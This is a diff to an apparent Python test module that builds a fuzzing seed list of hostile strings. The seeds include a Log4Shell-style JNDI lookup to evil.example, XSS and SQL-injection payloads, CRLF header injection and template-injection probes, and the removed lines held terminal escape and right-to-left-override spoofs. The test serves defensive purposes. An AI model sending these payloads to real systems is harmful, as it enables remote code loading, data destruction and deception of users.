@@ -2,17 +2,16 @@
 
 import random
 
+from tests.hostile.terminals import HOSTILE
+
 SEEDS = (
+    *(each for each in HOSTILE.values() if len(each) < 1_000),
     "",
     " ",
     "\0",
     "a\0b",
-    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example/\x07here\x1b]8;;\x07",
-    "\x07\x08\x7f\x9b31m",
     "line\r\nBcc: everybody@example.org\r\n\r\nbody",
     "line\nline\u2028line\u2029line\x85line",
-    "\u202egnp.exe\u202c \u2066isolate\u2069",
-    "\ufeff\u200b\u200d\u00ad\u2060",
     "e" + "\u0301" * 400,
     "ﷺ" * 300,
     "👩‍👩‍👧‍👦" * 60,
@@ -27,7 +26,6 @@ SEEDS = (
     "evil.example/pay",
     "xn--80ak6aa92e.com",
     "аррӏе",
-    "[red]markup[/red] [link=https://evil.example]x[/link]",
     "{component} {0} %s %(x)s ${jndi:ldap://evil.example/a} {{7*7}} {% for %}",
     "<script>alert(1)</script><img src=x onerror=alert(1)>",
     "' OR 1=1; DROP TABLE incidents; --",
